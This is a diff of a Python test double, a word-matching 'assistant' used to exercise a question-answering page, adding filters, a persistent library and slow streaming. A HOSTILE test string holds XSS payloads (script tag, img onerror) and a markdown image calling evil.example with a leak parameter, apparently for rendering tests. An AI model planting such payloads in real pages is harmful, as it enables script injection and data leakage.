@@ -1,15 +1,33 @@
 """A small real assistant for the page: it answers from the words that question and paragraph share."""
 
 import re
+import time
 from collections.abc import Iterable, Iterator, Sequence
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 from typing import Literal
 
+from corpus import unsaid
 from corpus.article import LANGUAGES, Article, Byline, Language, Passage, Span
 from corpus.errors import UnknownArticle
-from rag.answer import AddReport, Answer, Citation, Claim, Facts, Hit, Skipped, Turn, Update
+from corpus.frontmatter import parse
+from corpus.library import Library
+from rag.answer import (
+    AddReport,
+    Answer,
+    Citation,
+    Claim,
+    Facts,
+    Filters,
+    Hit,
+    IndexReport,
+    Skipped,
+    Turn,
+    Update,
+)
 from rag.errors import BadQuestion, NoIndex
+from rag.settings import Settings
 
 HOSTILE = (
     '<script>alert("in")</script><img src=x onerror=alert(1)> ![px](http://evil.example/p.png?leak=1) '
@@ -48,13 +66,27 @@ _COMMON = {"quels", "quelle", "which", "disent", "articles"}
 class WordAssistant:
     """Finds paragraphs that share long words with the question and quotes their first sentence.
 
-    ``error`` is raised by every question, to see how the page bears it.
+    ``error`` is raised by every question, to see how the page bears it. With ``keep`` the articles are
+    files of the library in the home of ``settings``.
     """
 
-    def __init__(self, articles: Iterable[Article] = ARTICLES, *, error: Exception | None = None) -> None:
+    def __init__(
+        self,
+        articles: Iterable[Article] = ARTICLES,
+        *,
+        error: Exception | None = None,
+        settings: Settings | None = None,
+        keep: bool = False,
+    ) -> None:
         self._articles = {article.id: article for article in articles}
         self._error = error
+        self._keep = keep
+        self.settings = settings or Settings.from_env()
+        if keep:
+            for article in self._articles.values():
+                self.library().put(article)
         self.asked: list[tuple[str, str, int]] = []
+        self.filters: list[Filters] = []
         self.batches: list[int] = []
 
     def ask(self, question: str, *, language: Language | Literal["auto"] = "auto") -> Answer:
@@ -64,21 +96,35 @@ class WordAssistant:
         return last.answer
 
     def stream(
-        self, question: str, *, language: Language | Literal["auto"] = "auto", history: Sequence[Turn] = ()
+        self,
+        question: str,
+        *,
+        language: Language | Literal["auto"] = "auto",
+        filters: Filters = Filters(),
+        history: Sequence[Turn] = (),
     ) -> Iterator[Update]:
-        """Hits, claims one by one, the answer."""
+        """Hits, claims one by one, the answer; a question with "lentement" takes its time before it ends."""
         self.asked.append((question, language, len(history)))
+        self.filters.append(filters)
         if self._error is not None:
             raise self._error
         if not _words(question):
             raise BadQuestion(f"the question {question!r} has no word; write one")
         english = re.search(r"\b(the|did|what|which)\b", question, re.IGNORECASE)
         spoken: Language = language if language != "auto" else "en" if english else "fr"
-        hits = self._hits(question)
+        every = self._hits(question)
+        hits = tuple(hit for hit in every if filters.admit(hit.passage))
         yield Update("retrieved", hits)
         answer = answer_from(question, spoken, hits)
+        if answer.status == "abstained" and answer_from(question, spoken, every).status == "answered":
+            answer = replace(answer, reason="filtered_out")
+        if history and len(_words(question)) < 2:
+            answer = replace(answer, notice=f"{history[-1].question} {question}")
         for count in range(1, len(answer.claims) + 1):
             yield Update("claim", hits, answer.claims[:count], answer.citations[:count])
+            for _ in range(200 if "lentement" in question else 0):
+                time.sleep(0.05)
+                yield Update("claim", hits, answer.claims[:count], answer.citations[:count])
         yield Update("done", hits, answer.claims, answer.citations, answer)
 
     def add(self, paths: Iterable[Path | str]) -> AddReport:
@@ -89,15 +135,35 @@ class WordAssistant:
         unchanged: list[str] = []
         skipped: list[Skipped] = []
         for path in files:
+            if path.suffix == ".md":
+                self._put(parse(path.read_text("utf-8"), path.name), added)
+                continue
             title, *paragraphs = path.read_text("utf-8").strip().split("\n")
             if not paragraphs:
                 skipped.append(Skipped(str(path), f"{path.name} has no paragraph; write one"))
                 continue
-            (unchanged if path.stem in self._articles else added).append(path.stem)
-            self._articles[path.stem] = Article(
-                path.stem, "fr", Byline(title, "Ajout", None, None), tuple(paragraphs)
+            article_id = unsaid.article_id(path.name)
+            byline = Byline(title, "Ajout", None, None)
+            self._put(
+                Article(article_id, "fr", byline, tuple(paragraphs)),
+                unchanged if article_id in self._articles else added,
             )
         return AddReport(tuple(added), (), tuple(unchanged), tuple(skipped))
+
+    def _put(self, article: Article, outcome: list[str]) -> None:
+        outcome.append(article.id)
+        self._articles[article.id] = article
+        if self._keep:
+            self.library().put(article)
+
+    def library(self) -> Library:
+        """The library in the home."""
+        return Library(self.settings.library)
+
+    def sync(self) -> IndexReport:
+        """Reads the library again."""
+        self._articles = {article.id: article for article in self.library().articles()}
+        return IndexReport(0, 0, 0, len(self._articles), 0)
 
     def articles(self) -> tuple[Article, ...]:
         """All articles, by id."""
